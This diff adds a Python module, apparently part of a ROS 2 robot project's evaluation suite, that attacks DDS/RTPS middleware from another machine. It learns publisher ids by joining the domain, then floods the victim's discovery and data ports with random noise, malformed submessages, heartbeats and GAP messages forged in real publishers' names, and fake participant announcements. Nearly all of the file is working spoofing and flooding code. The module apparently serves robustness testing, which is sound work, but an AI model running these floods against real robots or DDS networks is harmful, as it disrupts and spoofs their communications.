@@ -1,0 +1,125 @@
+"""Attack with packets of RTPS, the protocol of DDS, from another machine: ``python -m evaluation.rtps_attack``.
+
+The attacker joins the domain to learn the ids of the publishers on a topic, and sends packets to all ports of the
+domain on the victim. It prints the number of packets.
+"""
+
+from __future__ import annotations
+
+import os
+import random
+import socket
+import struct
+import sys
+import time
+from collections.abc import Callable, Iterator
+
+HEADER = b"RTPS\x02\x03\x01\x0f"
+INFO_DST, HEARTBEAT, GAP, ACKNACK, DATA, DATA_FRAG = 0x0E, 0x07, 0x08, 0x06, 0x15, 0x16
+KNOWN = (INFO_DST, HEARTBEAT, GAP, ACKNACK, DATA, DATA_FRAG, 0x01, 0x09, 0x0C, 0x0D, 0x12, 0x13)
+PARTICIPANTS = 16  # number of participants whose ports are attacked
+SPDP_WRITER, SPDP_READER = b"\x00\x01\x00\xc2", b"\x00\x01\x00\xc7"
+BATCH, PAUSE_S = 50, 0.01  # 5000 packets a second
+
+
+def submessage(kind: int, content: bytes, flags: int = 1) -> bytes:
+    """A submessage in little-endian order."""
+    return struct.pack("<BBH", kind, flags, len(content)) + content
+
+
+def noise(chance: random.Random, known: bytes) -> bytes:
+    """Random bytes."""
+    return chance.randbytes(chance.randrange(1, 1400))
+
+
+def malformed(chance: random.Random, known: bytes) -> bytes:
+    """A valid header with random submessages, whose lengths are wrong now and then."""
+    prefix = known[:12] if chance.random() < 0.5 else chance.randbytes(12)
+    text = HEADER + prefix
+    for _ in range(chance.randrange(1, 5)):
+        content = chance.randbytes(chance.randrange(0, 200))
+        length = len(content) if chance.random() < 0.7 else chance.randrange(65536)
+        text += struct.pack("<BBH", chance.choice(KNOWN), chance.randrange(256), length) + content
+    return text
+
+
+def heartbeats(chance: random.Random, known: bytes) -> bytes:
+    """A heartbeat in the name of a publisher: all its messages up to a later one are gone."""
+    first = chance.randrange(1, 2**20)
+    numbers = struct.pack("<iIiI", 0, first, 0, first + chance.randrange(1000))
+    content = bytes(4) + known[12:16] + numbers + struct.pack("<I", chance.randrange(2**31))
+    return HEADER + known[:12] + submessage(HEARTBEAT, content)
+
+
+def gaps(chance: random.Random, known: bytes) -> bytes:
+    """A gap in the name of a publisher: its next messages are irrelevant."""
+    begin = chance.randrange(1, 5000)
+    content = bytes(4) + known[12:16] + struct.pack("<iIiII", 0, begin, 0, begin + 200, 0)
+    return HEADER + known[:12] + submessage(GAP, content)
+
+
+def participants(chance: random.Random, known: bytes) -> bytes:
+    """The announcement of a participant that does not exist, with a lease of 100 s."""
+    prefix = b"\x01\x0f" + chance.randbytes(10)
+    locator = struct.pack("<iI", 1, 7410) + bytes(12) + socket.inet_aton("10.77.0.2")
+    parameters = b"".join(
+        struct.pack("<HH", kind, len(value)) + value
+        for kind, value in (
+            (0x0015, b"\x02\x03\x00\x00"),
+            (0x0016, b"\x01\x0f\x00\x00"),
+            (0x0050, prefix + b"\x00\x00\x01\xc1"),
+            (0x0031, locator),
+            (0x0032, locator),
+            (0x0002, struct.pack("<iI", 100, 0)),
+            (0x0058, struct.pack("<I", 0x0C3F)),
+            (0x0001, b""),
+        )
+    )
+    content = struct.pack("<HH", 0, 16) + SPDP_READER + SPDP_WRITER + struct.pack("<iI", 0, 1)
+    return HEADER + prefix + submessage(DATA, content + b"\x00\x03\x00\x00" + parameters, flags=5)
+
+
+ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
+    "noise": noise,
+    "malformed": malformed,
+    "heartbeats": heartbeats,
+    "gaps": gaps,
+    "participants": participants,
+}
+
+
+def ports(domain: int) -> list[int]:
+    """Ports of discovery and of data of the first participants of a domain, and that of multicast."""
+    base = 7400 + 250 * domain
+    return [base, *(base + 10 + offset for offset in range(2 * PARTICIPANTS))]
+
+
+def publishers(topic: str, timeout_s: float) -> Iterator[bytes]:
+    """Ids of the publishers on a topic."""
+    from socialbot.bridge.environment import spinning_node
+
+    with spinning_node("attacker") as ros:
+        deadline = time.monotonic() + timeout_s
+        while not (found := ros.get_publishers_info_by_topic(topic)) and time.monotonic() < deadline:
+            time.sleep(0.05)
+        yield from [bytes(one.endpoint_gid) for one in found]
+
+
+def main(name: str, victim: str, topic: str, seconds: float) -> None:
+    """Attack ``victim`` for ``seconds``."""
+    known = next(publishers(topic, 20.0), bytes(16))
+    chance, made = random.Random(1), ATTACKS[name]
+    targets = ports(int(os.environ["ROS_DOMAIN_ID"]))
+    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    print("begins", known.hex(), flush=True)
+    sent, end = 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        for _ in range(BATCH):
+            sender.sendto(made(chance, known), (victim, targets[sent % len(targets)]))
+            sent += 1
+        time.sleep(PAUSE_S)
+    print(sent, flush=True)
+
+
+if __name__ == "__main__":
+    main(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]))
